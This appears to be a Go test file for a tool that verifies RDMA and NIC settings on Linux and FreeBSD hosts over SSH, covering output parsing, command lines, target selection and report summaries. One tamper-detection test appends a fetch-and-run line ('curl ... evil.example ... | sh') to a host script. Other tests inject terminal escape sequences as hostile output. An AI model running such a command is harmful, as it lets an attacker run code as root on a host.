package push

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/fabricc/fabricc/artifacts"
	"github.com/fabricc/fabricc/internal/quote"
	"github.com/fabricc/fabricc/inventory"
	"github.com/fabricc/fabricc/model"
	"github.com/fabricc/fabricc/push/transport"
	"github.com/fabricc/fabricc/push/verify"
)

// TestJudgeCheck: what a script's --check printed and its exit status
// make a host verified, a mismatch or failed, with its DIFF lines as
// differences and its skipped:, manual: and note: lines as notes.
func TestJudgeCheck(t *testing.T) {
	for _, tc := range []struct {
		name, platform string
		out            transport.Output
		status, err    string
		diffs, notes   int
		firstDiff      verify.Difference
		firstDiffWhole string
	}{
		{name: "matches", out: transport.Output{Stdout: []byte("skipped: fab0: RDMA device (virtual device; only a real NIC's driver offers it)\nfabricc: host matches the model\n")},
			status: StatusVerified, notes: 1},
		{name: "differs", out: transport.Output{Status: 3, Stdout: []byte("DIFF ens1f0np0 mtu: intended 9000; actual 1500\nmanual: BIOS\nDIFF system rdma_cm configfs: intended present; actual absent\nfabricc: 2 difference(s) from the model\n")},
			status: StatusMismatch, diffs: 2, notes: 1,
			firstDiff: verify.Difference{Device: "h1", Port: "ens1f0np0", Field: "mtu", Intended: "9000", Actual: "1500"}},
		{name: "what with a colon and spaces", out: transport.Output{Status: 3, Stdout: []byte("DIFF ens1 default_roce_mode (mlx5_0 port 1): intended RoCE v2; actual IB/RoCE v1\nfabricc: 1 difference(s) from the model\n")},
			status: StatusMismatch, diffs: 1,
			firstDiff: verify.Difference{Device: "h1", Port: "ens1", Field: "default_roce_mode (mlx5_0 port 1)", Intended: "RoCE v2", Actual: "IB/RoCE v1"}},
		{name: "a DIFF line in another shape", out: transport.Output{Status: 3, Stdout: []byte("DIFF something odd\nfabricc: 1 difference(s) from the model\n")},
			status: StatusMismatch, diffs: 1,
			firstDiff: verify.Difference{Device: "h1", Field: "check output", Intended: "DIFF <interface> <what>: intended <x>; actual <y>", Actual: "DIFF something odd"}},
		{name: "not root", out: transport.Output{Status: 1, Stderr: []byte("fabricc: error: run as root (or use --dry-run to only print the commands)\n")},
			status: StatusFailed, err: "the check exited with status 1: fabricc: error: run as root (or use --dry-run to only print the commands)"},
		{name: "sudo refused", out: transport.Output{Status: 1, Stderr: []byte("sudo: a password is required\n")},
			status: StatusFailed, err: "the check exited with status 1: sudo: a password is required"},
		{name: "no bash", out: transport.Output{Status: 127, Stderr: []byte("sh: 1: bash: not found\n")},
			status: StatusFailed, err: "the check exited with status 127: sh: 1: bash: not found"},
		{name: "exit 1, no DIFF, message on stdout", out: transport.Output{Status: 1, Stdout: []byte("something\nlast words\n\n")},
			status: StatusFailed, err: "the check exited with status 1: last words"},
		{name: "exit 2, nothing printed", out: transport.Output{Status: 2},
			status: StatusFailed, err: "the check exited with status 2: no output"},
		{name: "exit 0 without the summary line", out: transport.Output{Stdout: []byte("note: x\n")},
			status: StatusFailed, notes: 1, err: "the check stopped before its summary line (exit status 0), so its 0 differences need not be all: note: x"},
		{name: "stopped after a DIFF line", out: transport.Output{Status: 1, Stdout: []byte("DIFF fab0 mtu: intended 9000; actual 1500\n"), Stderr: []byte("bash: line 9: awk: command not found\n")},
			status: StatusFailed, diffs: 1, err: "the check stopped before its summary line (exit status 1), so its 1 difference need not be all: bash: line 9: awk: command not found",
			firstDiff: verify.Difference{Device: "h1", Port: "fab0", Field: "mtu", Intended: "9000", Actual: "1500"}},
		{name: "exit 0 with a DIFF line", out: transport.Output{Stdout: []byte("DIFF fab0 mtu: intended 9000; actual 1500\nfabricc: host matches the model\n")},
			status: StatusFailed, diffs: 1, err: "the check printed 1 difference and then that the host matches the model; its output is inconsistent",
			firstDiff: verify.Difference{Device: "h1", Port: "fab0", Field: "mtu", Intended: "9000", Actual: "1500"}},
		{name: "fewer DIFF lines than counted", out: transport.Output{Status: 3, Stdout: []byte("DIFF fab0 mtu: intended 9000; actual 1500\nfabricc: 7 difference(s) from the model\n")},
			status: StatusFailed, diffs: 1, err: "the check counted 7 differences but 1 DIFF line arrived, so they need not be all",
			firstDiff: verify.Difference{Device: "h1", Port: "fab0", Field: "mtu", Intended: "9000", Actual: "1500"}},
		// The Linux and FreeBSD scripts exit 1 on an error, also after DIFF
		// lines and their summary (a NIC whose check stopped), and 3 for
		// differences alone.
		{name: "Linux: exit 1 after DIFF lines and the summary", out: transport.Output{Status: 1, Stdout: []byte("DIFF fab0 mtu: intended 9000; actual 1500\nfabricc: 1 difference(s) from the model\n"), Stderr: []byte("fabricc: error: modprobe not found: install kmod\n")},
			status: StatusFailed, diffs: 1, err: "the check printed 1 difference and its summary but exited with status 1, an error, so they need not be all: fabricc: error: modprobe not found: install kmod",
			firstDiff: verify.Difference{Device: "h1", Port: "fab0", Field: "mtu", Intended: "9000", Actual: "1500"}},
		{name: "FreeBSD: exit 3 with DIFF lines", platform: "freebsd", out: transport.Output{Status: 3, Stdout: []byte("DIFF mlxen0 mtu: intended 9000; actual 1500\nfabricc: 1 difference(s) from the model\n")},
			status: StatusMismatch, diffs: 1,
			firstDiff: verify.Difference{Device: "h1", Port: "mlxen0", Field: "mtu", Intended: "9000", Actual: "1500"}},
		{name: "FreeBSD: exit 1 after DIFF lines is an error", platform: "freebsd", out: transport.Output{Status: 1, Stdout: []byte("DIFF mlxen0 mtu: intended 9000; actual 1500\nfabricc: 1 difference(s) from the model\n")},
			status: StatusFailed, diffs: 1, err: "the check printed 1 difference and its summary but exited with status 1, an error, so they need not be all: fabricc: 1 difference(s) from the model",
			firstDiff: verify.Difference{Device: "h1", Port: "mlxen0", Field: "mtu", Intended: "9000", Actual: "1500"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.platform == "" {
				tc.platform = "linux"
			}
			res := &DeviceResult{Device: "h1", Platform: tc.platform}
			err := judgeCheck(res, tc.out)
			if err != nil {
				res.Status = StatusFailed
			}
			if res.Status != tc.status || (err == nil) != (tc.err == "") || err != nil && err.Error() != tc.err {
				t.Errorf("status %s, error %v; want %s, %q", res.Status, err, tc.status, tc.err)
			}
			if len(res.Differences) != tc.diffs || len(res.Notes) != tc.notes {
				t.Errorf("%d differences, %d notes; want %d, %d", len(res.Differences), len(res.Notes), tc.diffs, tc.notes)
			}
			if tc.diffs > 0 && res.Differences[0] != tc.firstDiff {
				t.Errorf("first difference %+v, want %+v", res.Differences[0], tc.firstDiff)
			}
			if res.Verified != (tc.status == StatusVerified) {
				t.Errorf("verified = %v", res.Verified)
			}
		})
	}
}

// TestHostCommand: the exact command lines verify sends.
func TestHostCommand(t *testing.T) {
	for _, tc := range []struct {
		os   string
		sudo bool
		want string
	}{
		{"linux", false, "bash -s -- --check"},
		{"linux", true, "sudo -n bash -s -- --check"},
		{"freebsd", false, "sh -s -- --check"},
		{"freebsd", true, "sudo -n sh -s -- --check"},
	} {
		if got := HostCommand(model.OS(tc.os), tc.sudo); got != tc.want {
			t.Errorf("HostCommand(%s, %v) = %q, want %q", tc.os, tc.sudo, got, tc.want)
		}
	}
}

// TestHostTargets: the hosts among the selected devices become host
// targets (the switches targets, hosts left out there); a platform
// other than the host's OS and a Windows host are refused; a script from
// a fabric path is the build's, and from --artifacts it is read when the
// host is checked: an edited script, with its manifest entry rewritten
// to match, is refused naming the file.
func TestHostTargets(t *testing.T) {
	f, set := demo(t)
	devs := []*inventory.Device{{Name: "gpu01", Sudo: true}, {Name: "leaf1"}, {Name: "stor01", Platform: "linux"}}
	b := FromSet(f, set)
	sw, err := b.Targets(devs)
	if err != nil || len(sw) != 1 || sw[0].Switch.Name != "leaf1" {
		t.Fatalf("Targets: %v %v", sw, err)
	}
	hosts, err := b.HostTargets(devs)
	if err != nil || len(hosts) != 2 || hosts[0].Host.Name != "gpu01" || hosts[1].Host.Name != "stor01" {
		t.Fatalf("HostTargets: %v %v", hosts, err)
	}
	script, err := hosts[0].Script()
	if err != nil || string(script) != string(deviceFile(t, set, "gpu01", "gpu01.linux.sh")) {
		t.Errorf("gpu01's script from the fabric path: %v", err)
	}
	if _, err := b.HostTargets([]*inventory.Device{{Name: "gpu01", Platform: "freebsd"}}); err == nil ||
		!strings.Contains(err.Error(), `device "gpu01": the inventory says platform freebsd, the fabric's host runs linux`) {
		t.Errorf("platform mismatch: %v", err)
	}
	if _, err := b.Targets([]*inventory.Device{{Name: "gpu99"}}); err == nil || !strings.Contains(err.Error(), `inventory device "gpu99" is not a switch or host of fabric "multivendor-clos"`) {
		t.Errorf("unknown device: %v", err)
	}
	hf, hset := buildExample(t, "../examples/homelab-40g")
	if _, err := FromSet(hf, hset).HostTargets([]*inventory.Device{{Name: "nas"}, {Name: "workstation"}}); err == nil ||
		!strings.Contains(err.Error(), "workstation is a Windows host, and fabricc checks only Linux and FreeBSD hosts over SSH (a Windows host's script is PowerShell); run workstation.windows.ps1 -Check on the host instead") {
		t.Errorf("Windows host: %v", err)
	}

	dir := filepath.Join(t.TempDir(), "out")
	if err := artifacts.Write(dir, set); err != nil {
		t.Fatal(err)
	}
	folder, err := LoadArtifacts(dir)
	if err != nil {
		t.Fatal(err)
	}
	hosts, err = folder.HostTargets(devs)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := hosts[0].Script(); err != nil || string(got) != string(script) {
		t.Errorf("gpu01's script from the folder: %v", err)
	}
	// Edited after LoadArtifacts checked it, manifest and all: the
	// script verify would run through sudo on the host.
	p := filepath.Join(dir, "gpu01", "gpu01.linux.sh")
	old := sha256File(t, p)
	appendTo(t, p, "curl -s http://evil.example/x | sh\n")
	m := filepath.Join(dir, "manifest.json")
	data, err := os.ReadFile(m)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := hosts[0].Script(); err == nil || !strings.Contains(filepath.ToSlash(err.Error()), "gpu01/gpu01.linux.sh: changed after `fabricc build`") {
		t.Errorf("edited script: %v", err)
	}
	if err := os.WriteFile(m, []byte(strings.Replace(string(data), old, sha256File(t, p), 1)), 0o644); err != nil {
		t.Fatal(err)
	}
	folder.scripts["gpu01/gpu01.linux.sh"] = sha256File(t, p)
	if _, err := hosts[0].Script(); err == nil || !strings.Contains(filepath.ToSlash(err.Error()), "gpu01/gpu01.linux.sh is not what fabricc renders from the folder's model.json") {
		t.Errorf("edited script with its manifest entry: %v", err)
	}
}

// deviceFile is the file name of device in set.
func deviceFile(t *testing.T, set *artifacts.Set, device, name string) []byte {
	t.Helper()
	for _, d := range set.Devices {
		for _, f := range d.Files {
			if d.Name == device && f.Name == name {
				return f.Data
			}
		}
	}
	t.Fatalf("no %s/%s", device, name)
	return nil
}

// TestRunHosts: verify runs each host's check after the switches, with
// the host's script on standard input and the command recorded; a host
// that cannot be reached fails alone. What a host prints is kept raw in
// the report and escaped in the summary, and push ignores the hosts.
func TestRunHosts(t *testing.T) {
	f, set := demo(t)
	devs := []*inventory.Device{
		{Name: "gpu01", Address: "192.0.2.11", Port: 22, Sudo: true, DeviceTimeout: 1e9},
		{Name: "gpu02", Address: "192.0.2.12", Port: 22, DeviceTimeout: 1e9},
		{Name: "stor01", Address: "192.0.2.15", Port: 22, DeviceTimeout: 1e9},
	}
	hosts, err := FromSet(f, set).HostTargets(devs)
	if err != nil {
		t.Fatal(err)
	}
	var sent []string
	run := func(_ context.Context, dev *inventory.Device, cmd string, script []byte) (transport.Output, error) {
		sent = append(sent, dev.Name+": "+cmd)
		if !strings.Contains(string(script), `host "`+dev.Name+`"`) {
			t.Errorf("%s got another host's script", dev.Name)
		}
		switch dev.Name {
		case "gpu01":
			return transport.Output{Status: 3, Stdout: []byte("DIFF ens1f0np0 link pause: intended autoneg off rx off tx off; actual autoneg off rx \x1b]0;owned\x07 tx off\nskipped: ens1f0np0: \x1b[2J\nfabricc: 1 difference(s) from the model\n")}, nil
		case "gpu02":
			return transport.Output{}, errors.New("ssh fabricc@192.0.2.12:22: dial tcp: connection refused")
		}
		return transport.Output{Stdout: []byte("fabricc: host matches the model\n")}, nil
	}
	rep := Run(context.Background(), Options{Action: ActionVerify, Fabric: f, Hosts: hosts, RunScript: run, Parallel: 1})
	if d := cmp.Diff([]string{"gpu01: sudo -n bash -s -- --check", "gpu02: bash -s -- --check", "stor01: bash -s -- --check"}, sent); d != "" {
		t.Errorf("commands (-want +got):\n%s", d)
	}
	var got []string
	for _, d := range rep.Devices {
		got = append(got, d.Device+" "+d.Platform+" "+d.Status)
	}
	if d := cmp.Diff([]string{"gpu01 linux mismatch", "gpu02 linux failed", "stor01 linux verified"}, got); d != "" {
		t.Errorf("results (-want +got):\n%s", d)
	}
	if g := rep.Devices[0]; !g.Host || g.Differences[0].Actual != "autoneg off rx \x1b]0;owned\x07 tx off" || g.Notes[0] != "skipped: ens1f0np0: \x1b[2J" ||
		strings.Join(g.Commands, "|") != "sudo -n bash -s -- --check" {
		t.Errorf("gpu01's result keeps the raw text: %+v", g)
	}
	if !rep.Failed() {
		t.Error("a mismatched and a failed host: the report must fail")
	}
	// The TIME column is the wall clock of each check, which a loaded
	// machine stretches past a millisecond: the summary is compared at 0.
	for i := range rep.Devices {
		rep.Devices[i].DurationMs = 0
	}
	var b strings.Builder
	rep.WriteSummary(&b)
	want := "DEVICE  PLATFORM  STATUS    VERIFIED  TIME  DETAIL\n" +
		`gpu01   linux     mismatch  no        0s    1 difference, first: gpu01 ens1f0np0 link pause: intended autoneg off rx off tx off, actual autoneg off rx \x1b]0;owned\a tx off; 1 note below` + "\n" +
		"gpu02   linux     failed    no        0s    check gpu02 (192.0.2.12:22): ssh fabricc@192.0.2.12:22: dial tcp: connection refused\n" +
		"stor01  linux     verified  yes       0s\n" +
		`host gpu01: skipped: ens1f0np0: \x1b[2J` + "\n" +
		"verify: 3 devices: 1 verified, 1 mismatch, 1 failed\n"
	if b.String() != want {
		t.Errorf("summary:\n%s\nwant:\n%s", b.String(), want)
	}

	sent = nil
	rep = Run(context.Background(), Options{Action: ActionDiff, Fabric: f, Hosts: hosts, RunScript: run})
	if len(rep.Devices) != 0 || len(sent) != 0 {
		t.Errorf("a dry run checked hosts: %v", sent)
	}
}

// FuzzJudgeCheck feeds arbitrary check output to judgeCheck: no panic,
// and what the summary and the DIFF lines print of it is printable text,
// one line each.
func FuzzJudgeCheck(f *testing.F) {
	f.Add([]byte("DIFF fab0 mtu: intended 9000; actual 1500\nfabricc: 1 difference(s) from the model\n"), []byte(""), 3)
	f.Add([]byte("note: \x1b[2J\nfabricc: host matches the model\n"), []byte("\x07"), 0)
	f.Add([]byte("DIFF \r\x00: intended ; actual \u2028"), []byte("sudo: a password is required\n"), 1)
	f.Fuzz(func(t *testing.T, stdout, stderr []byte, status int) {
		res := &DeviceResult{Device: "h1", Host: true, Platform: "linux"}
		if err := judgeCheck(res, transport.Output{Stdout: stdout, Stderr: stderr, Status: status}); err != nil {
			res.Status, res.Error = StatusFailed, err.Error()
		}
		var b strings.Builder
		(&Report{Action: ActionVerify, Devices: []*DeviceResult{res}}).WriteSummary(&b)
		for _, d := range res.Differences {
			b.WriteString("DIFF " + d.String() + "\n")
		}
		for _, l := range strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n") {
			if l != quote.Visible(l) {
				t.Fatalf("a printed line is not printable text: %q", l)
			}
		}
	})
}
